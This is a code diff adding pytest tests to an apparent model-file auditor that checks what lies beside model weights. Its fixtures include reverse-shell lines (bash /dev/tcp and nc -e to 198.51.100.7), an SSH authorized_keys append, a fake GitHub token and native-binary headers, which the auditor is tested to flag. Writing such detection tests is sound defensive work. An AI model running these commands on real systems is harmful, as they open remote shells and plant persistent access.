@@ -334,14 +334,47 @@ def test_a_file_without_a_reader_is_open_and_an_image_is_inert(tmp_path: Path, a
     dossier = audit(model)
     assert [a.path for a in dossier.artifacts if a.standing == "inert"] == ["logo.png"]
     assert messages(dossier, "artifact.unread", Kind.OPEN) == [
-        "fake.png: no reader knows this format (it begins with 4d 5a 90)",
         "notes.7z: not analysed: 7z archive; assay unpacks zip, tar, gzip, bzip2 and xz "
         "(it begins with 37 7a bc af 27 1c)",
     ]
     assert [f.message.partition(":")[0] for f in of(dossier, "code.native", Kind.REVIEW)] == [
-        "script.txt is a script, by its first line"
+        "fake.png is a Windows library or program",
+        "script.txt is a script, by its first line",
     ]
     assert dossier.decision.verdict is Verdict.INCOMPLETE
+
+
+TOKEN = "ghp_aBcDeFgHiJkLmNoPqRsTuVwXyZ0123456789"
+
+
+@pytest.mark.parametrize(
+    ("files", "check", "words"),
+    [
+        ({"notes.txt": "Hello\nbash -i >& /dev/tcp/198.51.100.7/44 0>&1\n"}, "code.attack-shape", "notes.txt:2 gives"),
+        ({"setup": "nc -e /bin/sh 198.51.100.7 44 \n"}, "code.attack-shape", "setup:1 gives a remote host a shell"),
+        ({"x.cfg": "run = echo k >> ~/.ssh/authorized_keys\n"}, "code.attack-shape", "x.cfg:1 writes where programs"),
+        ({"data.csv": f"a,b\n1,{TOKEN}\n"}, "secret.exposed", "data.csv:2 holds what looks like a GitHub token"),
+        ({"data.tsv": f"a\tb\n1\t{TOKEN}\n"}, "secret.exposed", "data.tsv:2 holds what looks like a GitHub token"),
+        ({"data.jsonl": f'{{"a": "{TOKEN}"}}\n{{"a": 1}}\n'}, "secret.exposed", "data.jsonl:1 holds"),
+        ({"quantize_config.json": json.dumps({"bits": 4, "a": TOKEN})}, "secret.exposed", "quantize_config.json:1"),
+        ({"x.bin": b"MZ" + bytes(100)}, "code.native", "x.bin is a Windows library or program"),
+        ({"x.bin": b"\xfe\xed\xfa\xcf" + bytes(100)}, "code.native", "x.bin is a macOS library or program"),
+        ({"x.bin": b"\xfe\xed\xfa\xce" + bytes(100)}, "code.native", "x.bin is a macOS library or program"),
+        ({"x.bin": b"\xca\xfe\xba\xbf" + bytes(100)}, "code.native", "x.bin is a macOS library"),
+    ],
+)
+def test_what_lies_beside_the_weights_is_told_for_what_it_is(
+    tmp_path: Path, audit: Audit, files: dict[str, Any], check: str, words: str
+) -> None:
+    dossier = audit(hub_model(tmp_path / "m", **files))
+    assert any(words in said for said in messages(dossier, check, Kind.REVIEW))
+    assert dossier.decision.verdict is not Verdict.PASSED
+
+
+def test_what_documents_tell_people_to_type_is_no_attack(tmp_path: Path, audit: Audit) -> None:
+    said = "curl -fsSL https://example.org/install.sh | sh\nuntil (echo > /dev/tcp/localhost/80); do sleep 1; done\n"
+    dossier = audit(hub_model(tmp_path / "m", **{"INSTALL.md": f"# Install\n\n```\n{said}```\n", "notes.txt": said}))
+    assert not messages(dossier, "code.attack-shape", Kind.REVIEW)
 
 
 def test_standings_cover_every_byte(tmp_path: Path, audit: Audit) -> None:
